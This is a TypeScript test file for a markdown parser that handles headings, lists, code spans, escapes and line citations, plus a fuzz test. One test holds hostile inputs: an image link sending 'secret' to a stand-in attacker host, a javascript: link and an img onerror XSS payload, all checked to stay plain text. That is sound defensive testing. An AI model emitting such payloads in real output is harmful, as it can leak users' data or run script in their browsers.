import fc from 'fast-check'
import { expect, it } from 'vitest'
import { parseInline, parseMarkdown } from './parse-markdown.ts'

it('reads headings, lists, code and citations', () => {
  expect(
    parseMarkdown('## Why\nThe **pool** ran dry [L12].\n\n- look at `db`\n- wait\n\n1. go\n```\nls -l\n```'),
  ).toEqual([
    { kind: 'heading', parts: [{ kind: 'text', text: 'Why' }] },
    {
      kind: 'paragraph',
      parts: [
        { kind: 'text', text: 'The ' },
        { kind: 'strong', text: 'pool' },
        { kind: 'text', text: ' ran dry ' },
        { kind: 'citation', lineId: 'L12' },
        { kind: 'text', text: '.' },
      ],
    },
    {
      kind: 'list',
      isOrdered: false,
      items: [
        [
          { kind: 'text', text: 'look at ' },
          { kind: 'code', text: 'db' },
        ],
        [{ kind: 'text', text: 'wait' }],
      ],
    },
    { kind: 'list', isOrdered: true, items: [[{ kind: 'text', text: 'go' }]] },
    { kind: 'code', text: 'ls -l' },
  ])
})

it.each(['![x](https://evil.example/?q=secret)', '[click](javascript:alert(1))', '<img src=x onerror=alert(1)>'])(
  'leaves %s as text',
  (text) => {
    expect(parseInline(text)).toEqual([{ kind: 'text', text }])
  },
)

it('shows what was escaped as the sign that it is', () => {
  expect(parseInline(String.raw`pay\_4jx4 fails \(29×\), \[x\]\(y\) \<b\> **a\*b** C:\\logs`)).toEqual([
    { kind: 'text', text: 'pay_4jx4 fails (29×), [x](y) <b> ' },
    { kind: 'strong', text: 'a*b' },
    { kind: 'text', text: String.raw` C:\logs` },
  ])
})

it('keeps the backticks and backslashes of code', () => {
  expect(parseInline('run `` echo `date` `` or `a\\_b`')).toEqual([
    { kind: 'text', text: 'run ' },
    { kind: 'code', text: 'echo `date`' },
    { kind: 'text', text: ' or ' },
    { kind: 'code', text: 'a\\_b' },
  ])
  expect(parseMarkdown('````sh\ncat <<X\n```\nX\n````')).toEqual([{ kind: 'code', text: 'cat <<X\n```\nX' }])
})

it('ends for any text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(Array.isArray(parseMarkdown(text))).toBe(true)
    }),
  )
}, 60_000)
